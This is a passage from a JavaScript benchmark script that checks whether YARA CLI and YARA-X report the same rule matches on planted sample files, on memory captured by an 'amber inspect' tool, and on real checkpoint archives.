  // Each sample alone, in a file of its own: exactly its rules, in both engines (the near misses: none).
  const samplesDir = join(work, 'samples');
  await mkdir(samplesDir);
  SAMPLES.forEach((x, j) => writeFileSync(join(samplesDir, `sample-${String(j).padStart(2, '0')}.bin`), x.bytes));
  const yx = await yaraX();
  const cliSamples = parseYaraCli(yaraCli(samplesDir).stdout, samplesDir);
  const wrong = [];
  SAMPLES.forEach((x, j) => {
    const f = `sample-${String(j).padStart(2, '0')}.bin`;
    const found = new Set();
    const hit = new Set();
    scanFileWindows(yx.scanner, join(samplesDir, f), f, 0, found, hit, null);
    const want = [...x.rules].sort().join(',');
    const gotCli = [...cliSamples.rules]
      .filter((k) => k.startsWith(`${f}|`))
      .map(ruleOf)
      .sort()
      .join(',');
    const gotX = [...hit].map(ruleOf).sort().join(',');
    if (gotCli !== want || gotX !== want) wrong.push(`${f}: want [${want}], CLI [${gotCli}], YARA-X [${gotX}]`);
  });
  failed ||= wrong.length > 0;
  console.log(
    `- each sample alone: ${wrong.length === 0 ? `all ${SAMPLES.length} set off exactly their rules in both engines (near misses: none)` : wrong.join('; ')}`,
  );
  if (withInspect) {
    // amber reports a rule once per memory region, at its first match there: each planted rule at its sample's address
    const hits = last.inspect.hits;
    const missing = planted.flatMap((x) =>
      x.rules
        .filter((rule) => !hits.some((h) => h.rule === rule && h.pid === 1 && h.address >= x.vaddr && h.address < x.vaddr + x.bytes.length))
        .map((rule) => `${rule}@0x${x.vaddr.toString(16)}`),
    );
    failed ||= missing.length > 0;
    const names = new Set(hits.map((h) => h.rule));
    const cliNames = new Set([...cli.rules].map(ruleOf));
    const d = diff(cliNames, names);
    console.log(
      `- (b) amber inspect --yara: ${hits.length} matches of ${names.size} rules (memory and rootfs diff); planted rules missing at their address: ${missing.join(', ') || 'none'}; ` +
        `rule names vs CLI on the pages: ${d.equal ? 'same' : `only CLI: ${d.onlyA.join(', ') || 'none'}; only amber: ${d.onlyB.join(', ') || 'none'}`}`,
    );
  }

  console.log('\ncorrectness on the real archives (test/fixtures/real-checkpoints: pages files and rootfs-diff files, each scanned whole):');
  for (const a of await realArchives(join(work, 'real'))) {
    const c = parseYaraCli(yaraCli(a.dir, { recursive: true }).stdout, a.dir);
    const found = new Set();
    const hit = new Set();
    for (const f of filesUnder(a.dir)) scanFileWindows(yx.scanner, f, relative(a.dir, f), 0, found, hit, null);
    const d = diff(c.found, found);
    const dr = diff(c.rules, hit);
    const names = [...new Set([...c.rules].map(ruleOf))].sort();
    console.log(
      `- ${a.name}: CLI rules ${names.join(', ') || 'none'}; YARA-X ${dr.equal && d.equal ? 'the same rules and matches' : `differs: rules ${dr.text}; matches ${d.text}`}`,
    );
  }
  if (failed) {
    console.error('bench/yara: a planted sample was missed, or a sample alone set off other rules than its own');
    process.exitCode = 1;
  }
} finally {
  if (process.env.BENCH_KEEP === '1') console.error(`kept ${work}`);
  else await rm(work, { recursive: true, force: true });
}
